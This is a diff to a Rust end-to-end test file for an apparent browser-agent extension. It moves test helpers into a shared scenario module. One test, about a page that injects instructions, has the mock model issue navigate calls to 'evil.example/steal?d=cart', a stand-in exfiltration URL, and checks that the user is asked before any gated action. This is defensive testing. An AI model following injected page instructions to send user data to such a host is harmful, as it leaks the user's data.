@@ -6,14 +6,14 @@ use std::time::Duration;
 
 use panelot_e2e::conversation::Approvals;
 use panelot_e2e::executor::ExecutorHarness;
-use panelot_e2e::executor::Tab;
+use panelot_e2e::scenario::Scenario;
+use panelot_e2e::scenario::chat_requests;
+use panelot_e2e::scenario::converse;
+use panelot_e2e::scenario::results_of;
+use panelot_e2e::scenario::tool_results;
 use panelot_protocol::AgentEvent;
 use panelot_protocol::decode_event;
 use panelot_protocol::engine::RunState;
-use panelot_protocol::engine::StopReason;
-use panelot_testkit::fixture_site::FixtureSite;
-use panelot_testkit::mock_provider::MockProvider;
-use panelot_testkit::mock_provider::RecordedRequest;
 use panelot_testkit::mock_provider::Reply;
 use pretty_assertions::assert_eq;
 use serde_json::Value;
@@ -34,165 +34,6 @@ document.getElementById("add").addEventListener("click", () => {
 });
 </script>
 </body></html>"#;
-
-/// Configures the engine's database: a connection to the mock server, a default model and the
-/// `auto` permission policy, through the test build's exports (as in `turns.rs`).
-fn configure(h: &mut ExecutorHarness, base_url: &str) {
-    let connection = json!([{"id": "mock", "name": "Mock", "kind": "openai",
-        "baseUrl": format!("{base_url}/v1"), "apiKeys": [], "customHeaders": [], "enabled": true,
-        "quirks": [], "modelIds": ["mock-model"], "models": []}]);
-    let model = json!({"connectionId": "mock", "modelId": "mock-model"});
-    let script = format!(
-        r#"(async () => {{
-            const engine = await import(chrome.runtime.getURL("wasm/engine.js"));
-            await engine.default();
-            await engine.seedSetting("connections", {connection});
-            await engine.seedSetting("defaultModel", {model});
-            await engine.seedSetting("permissionPolicy", '"auto"');
-            return true;
-        }})()"#,
-        connection = serde_json::to_string(&connection.to_string()).unwrap(),
-        model = serde_json::to_string(&model.to_string()).unwrap(),
-    );
-    assert_eq!(h.eval(&script).unwrap_or_else(|e| panic!("{e:#}")), Value::Bool(true));
-}
-
-/// Runs `steps` on one port after `initialize`, each sent once the previous one's `until` event
-/// arrived (`$thread` is the created thread); every approval asked is accepted, as a user
-/// watching would. Returns the raw events, each with the
-/// `performance.now()` of its arrival under `"t"`.
-fn converse(h: &mut ExecutorHarness, steps: Value) -> Vec<Value> {
-    converse_with(h, steps, Approvals::Accept)
-}
-
-fn converse_with(h: &mut ExecutorHarness, steps: Value, approvals: Approvals) -> Vec<Value> {
-    let script = panelot_e2e::conversation::script_with("e2e-gateway", &steps, approvals);
-    let result = h.eval(&script).unwrap_or_else(|e| panic!("{e:#}"));
-    let log = h.browser.log_tail();
-    assert_eq!(result["how"], "complete", "{result}\n{log}");
-    result["events"].as_array().unwrap().clone()
-}
-
-/// The chat requests the engine made, in order.
-fn chat_requests(server: &MockProvider) -> Vec<RecordedRequest> {
-    server.requests().into_iter().filter(|r| r.path.ends_with("/chat/completions")).collect()
-}
-
-/// The `tool` messages of a chat request (OpenAI wire format), as text.
-fn tool_results(request: &RecordedRequest) -> Vec<String> {
-    let messages = request.json.as_ref().and_then(|j| j["messages"].as_array().cloned());
-    messages
-        .unwrap_or_default()
-        .iter()
-        .filter(|m| m["role"] == "tool")
-        .map(|m| match &m["content"] {
-            Value::String(text) => text.clone(),
-            other => other.to_string(),
-        })
-        .collect()
-}
-
-/// A browser with the test build configured for the mock provider, a fixture tab, and a thread
-/// whose first turn (and its title call) is done, so replies queued next go to one turn in order.
-struct Scenario {
-    server: MockProvider,
-    h: ExecutorHarness,
-    tab: Tab,
-    url: String,
-    /// Kept alive for the tab's page.
-    _site: FixtureSite,
-}
-
-impl Scenario {
-    fn start(path: &str, html: &str) -> Scenario {
-        let server = MockProvider::start();
-        let root = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("fixtures");
-        let site = FixtureSite::start(root).expect("start the fixture site");
-        site.add_page(path, html);
-        let url = site.url(path);
-        let mut h = ExecutorHarness::launch().expect("launch Chromium");
-        configure(&mut h, &server.base_url());
-        let tab = h.open_tab(&url).unwrap_or_else(|e| panic!("open {url}: {e:#}"));
-
-        // The first turn names the thread: its title call runs beside the turn's model call and
-        // may reach the server first, so both get the same answer.
-        server.push(Reply::text("Hello."));
-        server.push(Reply::text("Hello."));
-        let events = converse(
-            &mut h,
-            json!([
-                {"send": {"type": "thread.create", "submissionId": "create"},
-                 "until": "command.ack"},
-                {"send": {"type": "thread.subscribe", "submissionId": "sub", "threadId": "$thread"},
-                 "until": "thread.snapshot"},
-                {"send": {"type": "turn.submit", "submissionId": "hello", "threadId": "$thread",
-                    "input": {"text": "Say hello"}}, "until": "turn.complete"},
-            ]),
-        );
-        assert!(events.iter().any(|e| e["event"]["type"] == "turn.complete"));
-        server.wait_for_requests(2, Duration::from_secs(20)).expect("the title and the turn");
-        Scenario { server, h, tab, url, _site: site }
-    }
-
-    /// Sends a message with the fixture tab as its browser context and returns the turn's raw
-    /// events, after checking that the turn ended normally.
-    fn turn(&mut self, text: &str) -> Vec<Value> {
-        self.turn_with(text, Approvals::Accept)
-    }
-
-    /// [`Scenario::turn`], answering every approval with `approvals`.
-    fn turn_with(&mut self, text: &str, approvals: Approvals) -> Vec<Value> {
-        self.turn_with_context(text, json!([]), approvals)
-    }
-
-    /// [`Scenario::turn_with`], with `attached` as the message's attached context.
-    fn turn_with_context(
-        &mut self,
-        text: &str,
-        attached: Value,
-        approvals: Approvals,
-    ) -> Vec<Value> {
-        let browser_context = json!({"capturedAtMs": 1, "referencedTabs": [],
-            "defaultTab": {"tabId": self.tab.0, "windowId": null, "url": self.url, "title": "Fixture"}});
-        let events = converse_with(
-            &mut self.h,
-            json!([
-                {"send": {"type": "thread.subscribe", "submissionId": "sub-2", "threadId": "$thread"},
-                 "until": "thread.snapshot"},
-                {"send": {"type": "turn.submit", "submissionId": "turn-2", "threadId": "$thread",
-                    "input": {"text": text, "browserContext": browser_context,
-                        "attachedContext": attached}},
-                 "until": "turn.complete"},
-            ]),
-            approvals,
-        );
-        let stops: Vec<StopReason> = events
-            .iter()
-            .map(|e| decode_event(e["event"].clone()).unwrap_or_else(|err| panic!("{e}: {err}")))
-            .filter_map(|f| match &f.event {
-                AgentEvent::TurnComplete(c) => Some(c.stop_reason),
-                _ => None,
-            })
-            .collect();
-        assert_eq!(stops, [StopReason::End], "{events:#?}");
-        events
-    }
-
-    /// The tool results of the turn's model calls after the warm-up turn, one list per call.
-    fn tool_results(&self) -> Vec<Vec<String>> {
-        chat_requests(&self.server).iter().skip(2).map(tool_results).collect()
-    }
-}
-
-/// The tool-call results the UI got (`item.complete` with a result), in order.
-fn results_of(events: &[Value]) -> Vec<&Value> {
-    events
-        .iter()
-        .filter(|e| e["event"]["type"] == "item.complete")
-        .map(|e| &e["event"]["result"])
-        .filter(|result| result.is_object())
-        .collect()
-}
 
 #[test]
 fn a_model_reads_the_page_and_clicks_through_the_engine() {
@@ -345,7 +186,7 @@ fn a_page_that_injects_instructions_never_gets_a_gated_action_without_a_question
         .push(Reply::tool_call("navigate", json!({"url": "https://evil.example/steal?d=cart"})));
     s.server.push(Reply::tool_call("navigate", json!({"url": "https://evil.example/claim"})));
     s.server.push(Reply::text("I could not go there."));
-    let events = s.turn_with("Find me a deal", Approvals::Decline);
+    let events = s.send_turn("Find me a deal", json!([]), Value::Null, Approvals::Decline);
 
     // Policy `auto`, yet each destination taken from the page asked, flagged as tainted with the
     // page as its source; the user declined and the tab never left the page.
@@ -383,7 +224,7 @@ const REPORT_PAGE: &str = r#"<!doctype html>
 #[test]
 fn a_tab_opened_by_a_click_is_reported_and_becomes_the_runs_tab() {
     let mut s = Scenario::start("/reports.html", OPENER_PAGE);
-    s._site.add_page("/report.html", REPORT_PAGE);
+    s.site.add_page("/report.html", REPORT_PAGE);
     let tab = s.tab;
     s.server.push(Reply::tool_call("read_page", json!({"tabId": tab.0})));
     s.server.push(Reply::tool_call("click", json!({"ref": "e1"})));
@@ -456,7 +297,7 @@ fn with_the_page_attached_a_model_fills_five_fields_and_submits_in_one_call() {
         "trust": "untrusted", "provenance": "page", "sourceRef": null,
         "tab": {"tabId": tab.0, "windowId": null, "url": s.url, "title": "Contact"},
         "content": {"type": "empty"}, "approxTokens": null}]);
-    s.turn_with_context("Fill in the contact form and send it", attached, Approvals::Accept);
+    s.send_turn("Fill in the contact form and send it", attached, Value::Null, Approvals::Accept);
 
     // One model call with a tool call, then the answer.
     let requests = chat_requests(&s.server);
